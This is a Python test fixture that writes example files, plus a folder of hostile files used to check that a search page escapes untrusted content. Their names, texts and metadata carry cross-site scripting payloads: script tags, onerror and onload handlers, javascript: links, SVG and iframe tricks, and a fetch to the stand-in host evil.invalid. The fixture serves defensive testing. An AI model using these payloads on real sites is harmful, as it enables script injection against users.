"""The files that the tests of the page search: everyday ones, and hostile ones."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

from conftest import write_collection

EXAMPLES = Path(__file__).parents[2] / "src" / "trawl" / "examples"
ATTACK = "document.documentElement.dataset.hacked='yes';alert(1);fetch('http://evil.invalid/')"
TAG = f'<img src=x onerror="{ATTACK}">'


def write_files(folder: Path) -> None:
    """Write texts, pictures, sounds and a paper, and hostile files in a folder of their own."""
    write_collection(folder)
    for name in ("physics", "sounds"):
        shutil.copytree(EXAMPLES / name, folder / name)
    for name in ("yeast-growth.pdf", "yeast-growth.pdf.json"):
        shutil.copy(EXAMPLES / "biology" / name, folder / name)
    (folder / "broken.pdf").write_bytes(b"%PDF-1.7\nnothing follows")
    (folder / "program.xyz").write_bytes(b"\x00\x01")
    write_hostile(folder / "hostile")


def write_hostile(folder: Path) -> None:
    """Write files whose names, texts and metadata try to run in the page.

    All contain the word `quokka`, by which the tests find them.
    """
    folder.mkdir()
    hostile = {
        '"><img src=x onerror=alert(1)>.txt': f"A quokka {TAG} <script>{ATTACK}</script>",
        "<script>alert(1)<!--.md": f"# Quokka {TAG}\n\n<script>{ATTACK}</script>\n\n"
        f"[quokka](javascript:{ATTACK})\n",
        "javascript:alert(1).txt": f"quokka </mark><script>{ATTACK}</script><mark> quokka",
        "two\nlines \u202egpj.txt": f"A quokka between two lines. {{{{base}}}} ${{{ATTACK}}}",
        "page.html": f"<html><head><title>Quokka {TAG}</title><script>{ATTACK}</script></head>"
        f'<body onload="{ATTACK}"><h1>Quokka</h1><p>{TAG} A quokka at home. &lt;script&gt;'
        f"{ATTACK}&lt;/script&gt;</p><iframe src='http://evil.invalid/frame'></iframe></body>",
        "drawing.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="150" '
        f'onload="{ATTACK}"><title>A drawn quokka</title><script>{ATTACK}</script>'
        '<image href="http://evil.invalid/x.png" width="9" height="9"/>'
        f'<a href="javascript:{ATTACK}"><circle cx="90" cy="70" r="50" fill="brown"/></a>'
        f'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" '
        f'srcdoc="&lt;script&gt;parent.{ATTACK}&lt;/script&gt;"/></foreignObject></svg>',
    }
    for name, text in hostile.items():
        (folder / name).write_text(text, "utf-8")
        metadata = {"title": f"Quokka {TAG}", "<b>key</b>": TAG, "site": f"javascript:{ATTACK}"}
        if name.endswith(".svg"):
            metadata["caption"] = f"A drawn quokka {TAG}"
        (folder / f"{name}.json").write_text(json.dumps(metadata), "utf-8")
    undecodable = os.path.join(os.fsencode(folder), b"quokka-\xff\xfe.txt")
    with open(undecodable, "wb") as file:
        file.write(b"A quokka whose name is not UTF-8.")
